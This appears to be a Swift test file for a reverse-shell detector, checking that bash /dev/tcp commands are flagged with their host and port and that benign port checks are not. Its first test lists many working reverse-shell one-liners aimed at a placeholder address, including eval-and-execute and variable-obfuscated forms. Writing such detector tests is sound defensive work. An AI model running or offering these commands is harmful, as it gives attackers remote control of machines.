@@ -1,0 +1,45 @@
+import Bytes
+import Testing
+
+@testable import Detectors
+
+private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }
+
+/// What makes a shell of a device, and where its far end is named.
+@Suite struct DevTCPMatcherTests {
+  @Test(arguments: [
+    // What comes in is the command.
+    "bash -c \"$(</dev/tcp/10.9.8.7/4444)\"", "eval \"$(</dev/tcp/10.9.8.7/4444)\"",
+    "eval $(cat /dev/tcp/10.9.8.7/4444)",
+    "bash -c \"$(cat /dev/tcp/10.9.8.7/4444)\"", "bash -c \"`cat /dev/tcp/10.9.8.7/4444`\"",
+    "source /dev/tcp/10.9.8.7/4444", ". /dev/tcp/10.9.8.7/4444",
+    "while read -r c; do sh -c \"$c\"; done </dev/tcp/10.9.8.7/4444 >&0",
+    // A shell reads from there.
+    "script -qc /bin/bash /dev/null </dev/tcp/10.9.8.7/4444 >&0 2>&0",
+    "bash --rcfile x -i >& /dev/tcp/10.9.8.7/4444 0>&1", "sh 0>/dev/tcp/10.9.8.7/4444 1>&0 2>&0",
+    // The far end is given to the shell, or written in quotes.
+    "set -- 10.9.8.7 4444; bash -i >& /dev/tcp/$1/$2 0>&1", "bash -c \"bash -i >& /dev/tcp/$0/$1 0>&1\" 10.9.8.7 4444",
+    "bash -c 'bash -i >& /dev/tcp/$1/$2 0>&1' _ 10.9.8.7 4444",
+    "read H P <<< \"10.9.8.7 4444\"; bash -i >& /dev/tcp/$H/$P 0>&1",
+    "for i in 10.9.8.7; do bash -i >& /dev/tcp/$i/4444 0>&1; done",
+    "C2=10.9.8.7:4444; bash -i >& /dev/tcp/${C2%:*}/${C2#*:} 0>&1",
+    "H=10.9.8.7; P=4444; bash -i >& /dev/tcp/\"$H\"/\"$P\" 0>&1", "bash -i >& /dev/tcp/'10.9.8.7'/'4444' 0>&1",
+  ])
+  func aDeviceFeedsAShell(text: String) {
+    #expect(shells(text).first?.technique == "dev_tcp")
+    #expect(shells(text).first?.host == "10.9.8.7")
+    #expect(shells(text).first?.port == 4444)
+  }
+
+  @Test(arguments: [
+    "timeout 1 bash -c '</dev/tcp/10.0.0.5/22' && echo open",
+    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.0.0.5/22'",
+    "t=$(cat </dev/tcp/10.0.0.5/13); bash -c \"echo $t\"", "echo \"$(</dev/tcp/10.0.0.5/13)\"",
+    "while read l; do echo \"$l\"; done </dev/tcp/10.0.0.5/13",
+    "while read l; do $l; done <cmds >/dev/tcp/10.0.0.5/514",
+    "bash --rcfile x run.sh >& /dev/tcp/10.0.0.5/514", "sh run.sh 0>/dev/null >/dev/tcp/10.0.0.5/514",
+    "source /dev/stdin", "the words '/dev/tcp/'+host and \"/dev/tcp/\" in bash -i",
+    "script -qc 'make' /dev/null >/dev/tcp/10.0.0.5/514",
+  ])
+  func aCheckIsNoShell(text: String) { #expect(shells(text).isEmpty) }
+}
